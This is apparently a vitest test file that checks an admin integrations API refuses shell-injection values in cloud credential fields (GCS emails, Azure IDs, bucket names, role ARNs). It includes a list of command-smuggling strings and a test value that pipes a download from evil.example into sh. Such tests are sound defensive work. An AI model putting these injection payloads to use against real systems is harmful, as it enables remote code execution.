/**
 * Fields that end up in generated commands are held to their real shape: hostile values are
 * refused with 400 invalid_request on create and on PATCH (test/node/shell-quoting.test.ts
 * proves the commands quote them anyway).
 */
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { errorOf, newWorld, type World } from "../support/harness";

let w: World;
beforeEach(async () => {
  w = await newWorld();
});
afterEach(() => w.close());

const HOSTILE = ["a;b", "a|b", "$(id)", "`id`", "a'b", 'a"b', "a\nb", "a b", "${IFS}"];
const GUID = "72f988bf-86f1-41af-91ab-2d7cd011db47";

async function expectRefused(body: Record<string, unknown>, field: string) {
  const res = await w.admin("POST", "/admin/api/integrations", body);
  expect(res.status, JSON.stringify(body)).toBe(400);
  const err = await errorOf(res);
  expect(err.code).toBe("invalid_request");
  expect(err.message.startsWith(`${field}`), err.message).toBe(true);
}

describe("input shapes", () => {
  it("gcs serviceAccountEmail: name@project.iam.gserviceaccount.com only", async () => {
    await expectRefused(
      { name: "g", provider: "gcs", serviceAccountEmail: "reader;curl${IFS}evil.example|sh;#@owner-proj.iam.gserviceaccount.com" },
      "serviceAccountEmail",
    );
    for (const h of HOSTILE)
      await expectRefused({ name: "g", provider: "gcs", serviceAccountEmail: `reader${h}@owner-proj.iam.gserviceaccount.com` }, "serviceAccountEmail");
    for (const other of [
      "reader@example.com",
      "reader@owner-proj.iam.gserviceaccount.com.evil.example",
      "Reader@owner-proj.iam.gserviceaccount.com",
      "@owner-proj.iam.gserviceaccount.com",
    ]) {
      await expectRefused({ name: "g", provider: "gcs", serviceAccountEmail: other }, "serviceAccountEmail");
    }
    const ok = await w.admin("POST", "/admin/api/integrations", {
      name: "g",
      provider: "gcs",
      serviceAccountEmail: "labels-reader@owner-proj.iam.gserviceaccount.com",
    });
    expect(ok.status).toBe(201);
  });

  it("azure tenantId (GUID), accountName and containers", async () => {
    const azure = { name: "a", provider: "azure", tenantId: GUID, accountName: "ownerstore1" };
    for (const bad of ["-".repeat(36), "72f988bf-86f1-41af-91ab-2d7cd011db4;", "72f988bf86f141af91ab2d7cd011db47abcd", ...HOSTILE])
      await expectRefused({ ...azure, tenantId: bad }, "tenantId");
    for (const bad of ["ab", "Owner", "a".repeat(25), ...HOSTILE]) await expectRefused({ ...azure, accountName: bad }, "accountName");
    for (const bad of ["a--b", "-ab", "ab", "Labels", ...HOSTILE]) await expectRefused({ ...azure, containers: [bad] }, "containers.0");
    const ok = await w.admin("POST", "/admin/api/integrations", { ...azure, containers: ["labels-2026"] });
    expect(ok.status).toBe(201);
    const { id } = (await ok.json()) as { id: string };
    const patched = await w.admin("PATCH", `/admin/api/integrations/${id}`, { accountName: "x;id" });
    expect(patched.status).toBe(400);
  });

  it("scopes (bucket names) and role ARNs", async () => {
    for (const h of HOSTILE) await expectRefused({ name: "s", scopes: [`bucket${h}`] }, "scopes.0");
    for (const h of HOSTILE) await expectRefused({ name: "r", roleArn: `arn:aws:iam::444455556666:role/name${h}` }, "roleArn");
    for (const bad of ["arn:aws:iam::44445555666:role/x", "arn:aws:s3:::bucket"]) await expectRefused({ name: "r", roleArn: bad }, "roleArn");
  });
});
